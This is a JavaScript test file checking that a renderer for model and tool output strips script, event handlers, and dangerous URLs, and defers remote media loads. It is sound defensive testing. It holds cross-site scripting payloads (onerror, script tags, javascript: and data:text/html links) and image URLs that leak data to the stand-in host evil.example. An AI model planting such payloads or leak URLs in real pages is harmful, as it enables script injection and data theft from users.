import { afterEach, describe, expect, test } from "vitest";
import { createRenderer } from "../src/render/index.js";
import { renderMarkdown } from "../src/render/markdown.js";

/** @type {Array<{destroy: () => void}>} */
const mounted = [];
afterEach(() => {
  while (mounted.length) mounted.pop()?.destroy();
});

/** @param {any} state */
function mount(state) {
  const el = document.createElement("div");
  document.body.append(el);
  const renderer = createRenderer(el);
  mounted.push(renderer);
  renderer.update({ header: {}, context: [], pending: null, outputs: { order: [], messages: {} }, ...state });
  return renderer.root;
}

/** @param {string} text */
function md(text) {
  const div = document.createElement("div");
  div.append(renderMarkdown(text));
  return div;
}

/** Scripts, handlers, and dangerous URLs are absent anywhere under `root`. @param {Element} root */
function expectInert(root) {
  expect(root.querySelectorAll("script, iframe, object, embed, svg, math, style, link, meta, base, form")).toHaveLength(0);
  for (const el of root.querySelectorAll("*")) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith("on"), `${el.tagName} has ${attr.name}`).toBe(false);
      if (["href", "src", "poster", "action", "formaction", "xlink:href"].includes(attr.name)) {
        expect(attr.value, `${el.tagName}[${attr.name}]`).not.toMatch(/^\s*(javascript|vbscript|data:text)/i);
      }
    }
  }
}

/** Nothing under `root` can fetch a remote resource by itself. @param {Element} root */
function expectNoRemoteFetch(root) {
  for (const el of root.querySelectorAll("[src], [srcset], [poster], [background], [style*='url']")) {
    const src = el.getAttribute("src") ?? "";
    expect(src, `${el.tagName} loads ${src}`).toMatch(/^data:image\//);
    expect(el.hasAttribute("srcset")).toBe(false);
  }
}

describe("Markdown sanitizing", () => {
  test("img onerror never reaches the DOM", () => {
    const div = md('Look: <img src="x" onerror="alert(1)">');
    expectInert(div);
    expect(div.querySelector("img")).toBeNull();
  });

  test("script tags are removed", () => {
    const div = md("Hello <script>alert(1)</script> world\n\n<script>\nalert(2)\n</script>\n");
    expectInert(div);
    expect(div.textContent).not.toContain("alert(1)");
  });

  test("javascript: links lose their href", () => {
    const div = md("[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) <a href=' javascript:alert(3)'>c</a>");
    expectInert(div);
    const links = Array.from(div.querySelectorAll("a"));
    expect(links.every((a) => !a.hasAttribute("href") || !/script/i.test(a.getAttribute("href") ?? ""))).toBe(true);
  });

  test("data:text/html links lose their href", () => {
    const div = md("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href=\"data:text/html,<script>alert(1)</script>\">y</a>");
    expectInert(div);
    expect(div.querySelector("a[href^='data']")).toBeNull();
  });

  test("svg with script or onload is removed", () => {
    const div = md('<svg onload="alert(1)"><script>alert(2)</script><image href="https://evil.example/x.png"/></svg> after');
    expectInert(div);
    expectNoRemoteFetch(div);
    expect(div.textContent).toContain("after");
  });

  test("remote images become a click-to-load button and are not fetched", () => {
    const div = md("![secret chart](https://evil.example/leak.png?q=secret)");
    expectNoRemoteFetch(div);
    expect(div.querySelector("img")).toBeNull();
    const button = div.querySelector("[data-testid=actx-remote-img]");
    expect(button?.getAttribute("data-src")).toBe("https://evil.example/leak.png?q=secret");
    expect(button?.textContent).toContain("secret chart");
  });

  test("other ways to fetch by themselves are removed", () => {
    const div = md([
      '<img srcset="https://evil.example/a.png 2x">',
      '<div style="background-image:url(https://evil.example/b.png)">styled</div>',
      '<table background="https://evil.example/c.png"><tr><td>t</td></tr></table>',
      '<video poster="https://evil.example/d.png" src="https://evil.example/e.mp4"></video>',
      '<audio src="https://evil.example/f.mp3"></audio>',
      '<iframe src="https://evil.example/"></iframe>',
      '<input type="image" src="https://evil.example/g.png">',
      '<link rel="stylesheet" href="https://evil.example/h.css">',
      '<picture><source srcset="https://evil.example/i.png"></picture>',
    ].join("\n"));
    expectInert(div);
    expectNoRemoteFetch(div);
    expect(div.querySelector("[style]")).toBeNull();
    expect(div.textContent).toContain("styled");
  });

  test("inline data:image pictures are shown as is", () => {
    const div = md("![dot](data:image/png;base64,iVBORw0KGgo=)");
    expect(div.querySelector("img")?.getAttribute("src")).toBe("data:image/png;base64,iVBORw0KGgo=");
  });
});

describe("whole view", () => {
  test("model and tool text anywhere in the context stays inert and fetches nothing", () => {
    const attack = '<img src=x onerror=alert(1)> <script>alert(2)</script> ![i](https://evil.example/x.png)';
    const root = mount({
      context: [
        { type: 2, content: [{ type: "text", text: attack }] },
        {
          type: 3,
          content: [
            { type: "thinking", text: attack },
            { type: "text", text: attack },
            { type: "toolCall", callId: "c1", name: "<img src=x onerror=alert(3)>", arguments: { html: attack } },
            { type: "binary", mimetype: "text/html", filename: "x.html", content: "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" },
            { type: "image", url: "https://evil.example/block.png" },
          ],
        },
        { type: 4, callId: "c1", content: [{ type: "text", text: attack }] },
        { type: "note", html: attack },
      ],
      pending: { type: 3, content: [{ type: "text", text: attack }] },
    });
    expectInert(root);
    expectNoRemoteFetch(root.querySelector("[data-testid=actx-context]") ?? root);
    expectNoRemoteFetch(root.querySelector(".actx-pending-slot") ?? root);
    // names and arguments are text, not markup
    expect(root.querySelector(".actx-tool-name")?.textContent).toBe("<img src=x onerror=alert(3)>");
    expect(root.querySelector(".actx-args")?.textContent).toContain("<script>alert(2)</script>");
    // the text/html binary is a chip, never a data: URL
    expect(root.querySelector("[data-block=binary] [src]")).toBeNull();
  });

  test("clicking a placeholder loads the image (http only)", () => {
    const root = mount({ context: [{ type: 3, content: [{ type: "text", text: "![c](https://example.com/c.png)" }] }] });
    const button = /** @type {HTMLElement} */ (root.querySelector("[data-testid=actx-remote-img]"));
    button.click();
    expect(root.querySelector("[data-testid=actx-remote-img]")).toBeNull();
    expect(root.querySelector(".actx-md img")?.getAttribute("src")).toBe("https://example.com/c.png");
  });

  test("a relative image in Markdown is never loadable", () => {
    const root = mount({ context: [{ type: 3, content: [{ type: "text", text: "![c](/files/secret.png)" }] }] });
    const button = /** @type {HTMLButtonElement} */ (root.querySelector("[data-testid=actx-remote-img]"));
    expect(button.disabled).toBe(true);
    button.click();
    expect(root.querySelector("img")).toBeNull();
  });

  test.each([
    ["image", "javascript:alert(1)"],
    ["image", "data:text/html,<script>alert(1)</script>"],
    ["image", "data:image/svg+xml;base64,PHN2Zz4="],
    ["image", " https://example.com/leading-space.png"],
    ["image", "/files/relative.png"],
    ["audio", "data:image/png;base64,AAAA"],
    ["audio", "vbscript:msgbox(1)"],
    ["video", "data:audio/wav;base64,AAAA"],
    ["video", "file:///etc/passwd"],
  ])("media output %s refuses %s and shows it as text", (type, url) => {
    const root = mount({ outputs: { order: ["m"], messages: { m: { id: "m", type, props: { url }, done: true } } } });
    const out = /** @type {HTMLElement} */ (root.querySelector("[data-output-id=m]"));
    if (url.startsWith("data:image/svg")) {
      // an svg data: image is an image of its own media type: loaded as an <img>, which never runs scripts
      expect(out.querySelector("img")?.getAttribute("src")).toBe(url);
      return;
    }
    expect(out.querySelector("[src]")).toBeNull();
    expect(out.querySelector("[data-testid=actx-blocked-url]")?.textContent).toContain(url.slice(0, 20));
    expectInert(root);
  });

  test.each([
    ["image", "blob:https://example.com/123e4567", "img"],
    ["image", "data:image/png;base64,iVBORw0KGgo=", "img"],
    ["audio", "blob:https://example.com/123e4567", "audio"],
    ["audio", "data:audio/mpeg;base64,AAAA", "audio"],
    ["video", "blob:https://example.com/123e4567", "video"],
    ["video", "data:video/mp4;base64,AAAA", "video"],
  ])("media output %s loads %s at once (it fetches nothing remote)", (type, url, tag) => {
    const root = mount({ outputs: { order: ["m"], messages: { m: { id: "m", type, props: { url }, done: true } } } });
    expect(root.querySelector(`[data-output-id=m] ${tag}`)?.getAttribute("src")).toBe(url);
  });

  test.each([
    ["image", "https://example.com/a.png", "img"],
    ["image", "HTTP://example.com/a.png", "img"],
    ["audio", "https://example.com/a.mp3", "audio"],
    ["audio", "http://example.com/a.mp3", "audio"],
    ["video", "https://example.com/v.mp4", "video"],
    ["video", "http://example.com/v.mp4", "video"],
  ])("a remote %s output (%s) fetches nothing before a click, then loads (issue 21)", (type, url, tag) => {
    const root = mount({ outputs: { order: ["m"], messages: { m: { id: "m", type, props: { url }, done: true } } } });
    const out = /** @type {HTMLElement} */ (root.querySelector("[data-output-id=m]"));
    expectNoRemoteFetch(out);
    expect(out.querySelector(tag)).toBeNull();
    const button = /** @type {HTMLButtonElement} */ (out.querySelector("[data-testid=actx-remote-img]"));
    expect(button.getAttribute("data-kind")).toBe(type);
    button.click();
    expect(out.querySelector(tag)?.getAttribute("src")).toBe(url);
    expect(out.querySelector("[data-testid=actx-remote-img]")).toBeNull();
  });

  test.each([
    ["image", "//example.com/a.png"],
    ["audio", "//example.com/a.mp3"],
    ["video", "//example.com/v.mp4"],
  ])("a protocol-relative %s output (%s) is refused as text: nothing to click, nothing fetched", (type, url) => {
    const root = mount({ outputs: { order: ["m"], messages: { m: { id: "m", type, props: { url, thumbnail: url }, done: true } } } });
    const out = /** @type {HTMLElement} */ (root.querySelector("[data-output-id=m]"));
    expect(out.querySelector("[src], [poster], [data-src]")).toBeNull();
    expect(out.querySelector("[data-testid=actx-blocked-url]")?.textContent).toContain(url);
  });

  test("a remote image output is a click-to-load button, as a model-written one is (issue 21)", () => {
    const root = mount({ outputs: { order: ["m"], messages: { m: { id: "m", type: "image", props: { url: "https://example.com/a.png" }, done: true } } } });
    expect(root.querySelector("[data-output-id=m] img")).toBeNull();
    expect(root.querySelector("[data-output-id=m] [data-testid=actx-remote-img]")?.getAttribute("data-src")).toBe("https://example.com/a.png");
  });

  test("a video thumbnail must be an allowed image URL, and a remote one waits for the click", () => {
    const root = mount({
      outputs: {
        order: ["a", "b", "c"],
        messages: {
          a: { id: "a", type: "video", props: { url: "blob:https://example.com/1", thumbnail: "javascript:alert(1)" } },
          b: { id: "b", type: "video", props: { url: "blob:https://example.com/1", thumbnail: "https://example.com/t.jpg" } },
          c: { id: "c", type: "video", props: { url: "blob:https://example.com/1", thumbnail: "//example.com/t.jpg" } },
        },
      },
    });
    expect(root.querySelector("[data-output-id=a] video")?.hasAttribute("poster")).toBe(false);
    expect(root.querySelector("[data-output-id=c] video")?.hasAttribute("poster")).toBe(false);
    expect(root.querySelector("[data-output-id=b] video, [data-output-id=b] [poster]")).toBeNull();
    /** @type {HTMLElement} */ (root.querySelector("[data-output-id=b] [data-testid=actx-remote-img]")).click();
    expect(root.querySelector("[data-output-id=b] video")?.getAttribute("poster")).toBe("https://example.com/t.jpg");
  });

  test("outputs full of remote media fetch nothing until clicked (live view and reopened snapshot draw the same)", () => {
    const remote = "http://127.0.0.1:9/leak";
    const messages = {
      i: { id: "i", type: "image", props: { url: `${remote}.png` } },
      a: { id: "a", type: "audio", props: { url: `${remote}.mp3` } },
      v: { id: "v", type: "video", props: { url: `${remote}.mp4`, thumbnail: `${remote}.jpg` } },
      w: { id: "w", type: "video", props: { url: "data:video/mp4;base64,AAAA", thumbnail: `https://127.0.0.1:9/leak.jpg` } },
    };
    const root = mount({ outputs: { order: Object.keys(messages), messages } });
    expectNoRemoteFetch(root);
    expect(root.querySelectorAll("[data-testid=actx-remote-img]")).toHaveLength(4);
  });
});
